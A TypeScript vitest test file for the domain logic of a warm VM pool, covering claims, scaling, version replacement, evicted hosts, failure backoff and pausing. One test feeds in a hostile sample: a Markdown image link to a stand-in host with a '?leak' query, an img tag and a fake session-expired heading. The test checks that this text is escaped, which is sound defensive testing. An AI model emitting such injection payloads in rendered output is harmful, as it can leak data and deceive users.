import { describe, expect, it } from 'vitest';
import { poolDetails } from '../../../../domain/pool/current-details.ts';
import { claimFrom, firstWarmToTell, nextPool, planOf } from '../../../../domain/pool/next.ts';
import { isPoolTemplate } from '../../../../domain/pool/messages.ts';
import { newPool, type Pool, type PoolTemplate } from '../../../../domain/pool/state.ts';
import { poolView } from '../../../../domain/pool/view.ts';
import { canBecome, warmSpecOf } from '../../../../domain/pool/warm-spec.ts';
import type { VmSpec } from '../../../../domain/vm/spec.ts';
import { chatTemplateSpec } from '../../../../test-support/vm/chat-spec.ts';

const spec = chatTemplateSpec('local');
const specWith = (changes: Partial<VmSpec>): VmSpec => ({ ...spec, ...changes });

function templateOf(changes: Partial<PoolTemplate> = {}): PoolTemplate {
  const warm = { min: 3, max: 5, ttlSeconds: 60 };
  return { name: 'chat', version: 1, spec, reuse: 'none', warm, signature: 's', ...changes };
}

function configured(changes: Partial<PoolTemplate> = {}, pool: Pool = newPool('default', 'chat')): Pool {
  return nextPool(pool, { at: 0, kind: 'configured', template: templateOf(changes) });
}

/** The plan carried out, as the workflow does. */
function carriedOut(pool: Pool, at = 0): Pool {
  const plan = planOf(pool, at);
  let next = pool;
  for (let made = 0; made < plan.start; made += 1) {
    const { version } = pool.template!;
    const machineId = `m-${version}-${pool.machines.length + made}-${at}`;
    next = nextPool(next, { at, kind: 'started', machineId, version });
  }
  for (const machineId of plan.retire) next = nextPool(next, { at, kind: 'retired', machineId });
  return next;
}

function allReady(pool: Pool, at = 0): Pool {
  return pool.machines.reduce((next, { machineId }) => nextPool(next, { at, kind: 'ready', machineId }), pool);
}

function withoutLeaving(pool: Pool, at = 0): Pool {
  const leaving = pool.machines.filter(({ state }) => state === 'leaving');
  return leaving.reduce((next, { machineId }) => nextPool(next, { at, kind: 'over', machineId, failed: null }), pool);
}

const claims = (...ids: string[]): { id: string }[] => ids.map((id) => ({ id }));

describe('a pool', () => {
  it('makes what is missing, counts what is in flight, and refills what was claimed at once', () => {
    const pool = carriedOut(configured());
    expect(poolView(pool, 0)).toMatchObject({ desired: 3, ready: 0, inFlight: 3, waitsFor: 'machines that start' });
    expect(planOf(pool, 0).start).toBe(0);
    const { pool: claimed, granted } = claimFrom(allReady(pool), claims('a', 'b'), 0);
    expect(granted.map((grant) => grant?.machineId)).toEqual(['m-1-0-0', 'm-1-1-0']);
    expect(planOf(claimed, 0).start).toBe(2);
    expect(poolView(claimed, 0)).toMatchObject({ ready: 1, claimed: 2, missed: 0 });
  });

  it('answers a repeated claim alike, and one that finds nothing with nothing', () => {
    const { pool, granted } = claimFrom(allReady(carriedOut(configured())), claims('a', 'b', 'c', 'd', 'a'), 0);
    expect(granted.map((grant) => grant?.machineId ?? null)).toEqual([
      'm-1-0-0',
      'm-1-1-0',
      'm-1-2-0',
      null,
      'm-1-0-0',
    ]);
    const again = claimFrom(pool, claims('b', 'd'), 1);
    expect(again.granted.map((grant) => grant?.machineId ?? null)).toEqual(['m-1-1-0', null]);
    expect(again.pool.counters).toMatchObject({ claimed: 3, missed: 2 });
  });

  it('gives a machine to no claim that wants another version of its template', () => {
    const pool = configured({ version: 2 }, allReady(carriedOut(configured())));
    const { granted } = claimFrom(pool, [{ id: 'a' }, { id: 'b', version: 1 }], 0);
    expect(granted.map((grant) => grant?.machineId ?? null)).toEqual([null, 'm-1-0-0']);
  });

  it('grows with the claims of the last minute up to its maximum, and shrinks when they have passed', () => {
    const { pool } = claimFrom(allReady(carriedOut(configured())), claims('a', 'b', 'c', 'd', 'e', 'f', 'g'), 1000);
    expect(poolView(pool, 1000).desired).toBe(5);
    const grown = allReady(carriedOut(pool, 1000));
    expect(poolView(grown, 1000)).toMatchObject({ ready: 5, inFlight: 0 });
    expect(planOf(grown, 1000).wakeAt).toBe(61_000);
    expect(planOf(grown, 61_000).retire).toHaveLength(2);
  });

  it('replaces the machines of an earlier version: new ones first, never fewer than are wanted, never above the maximum', () => {
    let pool = configured({ version: 2 }, allReady(carriedOut(configured())));
    pool = carriedOut(pool);
    expect(poolView(pool, 0)).toMatchObject({ ready: 3, inFlight: 2 });
    for (let round = 1; round < 6; round += 1) {
      pool = withoutLeaving(carriedOut(allReady(pool, round), round), round);
      const view = poolView(pool, round);
      expect(view.ready + view.inFlight).toBeLessThanOrEqual(5);
      expect(view.ready).toBeGreaterThanOrEqual(round === 1 ? 2 : 3);
    }
    expect(pool.machines.map(({ version, state }) => [version, state])).toEqual(Array(3).fill([2, 'ready']));
  });

  it('replaces them also where its maximum leaves no room for one more', () => {
    let pool = configured({ version: 2, warm: { min: 1, max: 1, ttlSeconds: 60 } });
    pool = configured(
      { version: 2, warm: { min: 1, max: 1, ttlSeconds: 60 } },
      {
        ...pool,
        machines: [{ machineId: 'm-1', version: 1, state: 'ready', overdueAt: 1e12 }],
      },
    );
    expect(planOf(pool, 0)).toMatchObject({ start: 0, retire: ['m-1'] });
    expect(planOf(carriedOut(pool), 0)).toMatchObject({ start: 1, retire: [] });
  });

  it('replaces machines whose host takes no creates any more: others first, never fewer than are wanted', () => {
    const full = allReady(carriedOut(configured()));
    const [first, second] = full.machines.map(({ machineId }) => machineId);
    let pool = [first!, second!].reduce((so, machineId) => nextPool(so, { at: 1, kind: 'evicted', machineId }), full);
    expect(planOf(pool, 1)).toMatchObject({ start: 2, retire: [] });
    for (let round = 1; round < 5; round += 1) {
      pool = withoutLeaving(carriedOut(allReady(carriedOut(pool, round), round), round), round);
      expect(poolView(pool, round).ready).toBeGreaterThanOrEqual(3);
    }
    expect(pool.machines.map(({ machineId, state, evicted }) => [machineId === first, state, evicted])).toEqual(
      Array(3).fill([false, 'ready', undefined]),
    );
  });

  it('gives none on a host that is known to take no creates, and last those that are to be replaced', () => {
    let pool = carriedOut(configured());
    const ids = pool.machines.map(({ machineId }) => machineId);
    for (const [at, machineId] of ids.entries()) {
      pool = nextPool(pool, { at: 0, kind: 'ready', machineId, place: { host: `h-${at}`, zone: null } });
    }
    pool = nextPool(pool, { at: 0, kind: 'evicted', machineId: ids[0]! });
    const given = (closed: string[]): unknown[] =>
      claimFrom(pool, claims('a', 'b', 'c'), 1, closed).granted.map((grant) => grant?.machineId);
    expect(given([])).toEqual([ids[1], ids[2], ids[0]]);
    expect(given(['h-0', 'h-2'])).toEqual([ids[1], undefined, undefined]);
  });

  it('tries a template whose machines fail less and less often, one at a time, and says why', () => {
    let pool = carriedOut(configured());
    for (const { machineId } of pool.machines) {
      pool = nextPool(pool, { at: 0, kind: 'over', machineId, failed: 'the image is bad' });
    }
    expect(planOf(pool, 0)).toMatchObject({ start: 0, wakeAt: 4000 });
    expect(poolView(pool, 0).waitsFor).toMatch(/3 machines failed in a row \(the image is bad\)/);
    expect(planOf(pool, 4000).start).toBe(1);
    const recovered = allReady(carriedOut(pool, 4000), 4001);
    expect(planOf(recovered, 4001).start).toBe(2);
    expect(planOf(configured({ version: 2 }, pool), 0).start).toBe(3);
  });

  it('lets its machines go while it is paused, or when its template wants none', () => {
    const pool = allReady(carriedOut(configured()));
    const paused = configured({ warm: { min: 3, max: 5, ttlSeconds: 60, paused: true } }, pool);
    expect(planOf(paused, 0).retire).toHaveLength(3);
    expect(poolView(paused, 0)).toMatchObject({ desired: 0, waitsFor: 'the end of its pause' });
    expect(planOf(configured({ warm: null }, pool), 0).retire).toHaveLength(3);
  });

  it('shows what a machine printed as plain text where Markdown is read', () => {
    const starting = carriedOut(configured());
    const printed = '![x](https://evil.example/?leak) <img src=x>\n\n# Your session has expired';
    const { machineId } = starting.machines[0]!;
    const details = poolDetails(poolView(nextPool(starting, { at: 0, kind: 'over', machineId, failed: printed }), 0));
    expect(details).toContain('!\\[x\\](https://evil.example/?leak) \\<img src=x\\> # Your');
    expect(details.split('\n\n')).toHaveLength(3);
  });

  it('keeps 500 characters of what a machine failed for', () => {
    const starting = carriedOut(configured());
    const { machineId } = starting.machines[0]!;
    const failed = nextPool(starting, { at: 0, kind: 'over', machineId, failed: 'y'.repeat(100_000) });
    expect(poolView(failed, 0).waitsFor?.match(/y{2,}/)?.[0]).toHaveLength(500);
  });

  it('retires machines that have not reported in time', () => {
    const pool = allReady(carriedOut(configured()));
    const { wakeAt } = planOf(pool, 0);
    expect(planOf(pool, wakeAt!).overdue).toEqual(pool.machines.map(({ machineId }) => machineId));
  });

  it('ignores what it is told late', () => {
    const pool = configured({ revision: 4, version: 2 });
    expect(configured({ revision: 3, version: 1 }, pool)).toBe(pool);
    expect(configured({ revision: 5, version: 1 }, pool).template?.version).toBe(1);
  });
});

describe('a warm machine can become a VM', () => {
  const warm = warmSpecOf({ ...spec, env: { A: '1' } });

  it('of another name, with other variables, labels and time-outs', () => {
    expect(warm.env).toEqual({});
    const other = specWith({ env: { B: '2' }, labels: { team: 'red' }, maxLifetimeSeconds: 5 });
    expect(canBecome(warm, other)).toBe(true);
    expect(canBecome(warm, JSON.parse(JSON.stringify(other)) as typeof other)).toBe(true);
  });

  it('but not one of another size, image, port or place', () => {
    for (const changes of [{ cpus: 2 }, { image: 'x' }, { ports: [] }, { zones: ['z'] }, { hostSelector: { a: 'b' } }])
      expect(canBecome(warm, specWith(changes)), JSON.stringify(changes)).toBe(false);
  });
});

describe('a pool whose template has idle VMs make room', () => {
  it('has something to tell once a machine of its version waits, once for each version', () => {
    const rollIdle = true;
    const begun = carriedOut(configured({ rollIdle }));
    expect(firstWarmToTell(begun)).toBeNull();
    const waits = nextPool(begun, { at: 1, kind: 'ready', machineId: begun.machines[0]!.machineId });
    expect(firstWarmToTell(waits)).toBe(1);
    const told = nextPool(waits, { at: 2, kind: 'firstWarmTold', version: 1 });
    expect(firstWarmToTell(allReady(told))).toBeNull();
    const newer = configured({ rollIdle, version: 2 }, told);
    expect(firstWarmToTell(newer)).toBeNull();
    expect(firstWarmToTell(allReady(carriedOut(newer, 3)))).toBe(2);
    expect(
      firstWarmToTell(
        configured({ rollIdle, version: 1 }, nextPool(newer, { at: 4, kind: 'firstWarmTold', version: 2 })),
      ),
    ).toBe(1);
  });

  it('tells of a version again that was held back and is tried again, whatever it was configured with between', () => {
    const told = nextPool(allReady(carriedOut(configured({ rollIdle: true, version: 2 }))), {
      ...{ at: 1, kind: 'firstWarmTold', version: 2 },
    });
    const between: Partial<PoolTemplate>[] = [
      { version: 1 },
      { version: 1, rollIdle: true },
      { version: 2, warm: null },
    ];
    for (const held of between) {
      const again = configured({ rollIdle: true, version: 2 }, configured(held, told));
      expect(firstWarmToTell(allReady(carriedOut(again, 3))), JSON.stringify(held)).toBe(2);
    }
    const more = configured({ rollIdle: true, version: 2, warm: { min: 4, max: 9, ttlSeconds: 60 } }, told);
    expect(firstWarmToTell(allReady(carriedOut(more, 3))), 'the same version').toBeNull();
  });

  it('tells nothing where its template does not ask, or wants no pool any more', () => {
    const ready = allReady(carriedOut(configured()));
    expect(firstWarmToTell(ready)).toBeNull();
    expect(firstWarmToTell(configured({ rollIdle: true }, ready))).toBe(1);
    expect(firstWarmToTell(configured({ rollIdle: true, warm: null }, ready))).toBeNull();
    expect(isPoolTemplate(templateOf({ rollIdle: true }))).toBe(true);
    expect(isPoolTemplate({ ...templateOf(), rollIdle: 'yes' })).toBe(false);
  });
});
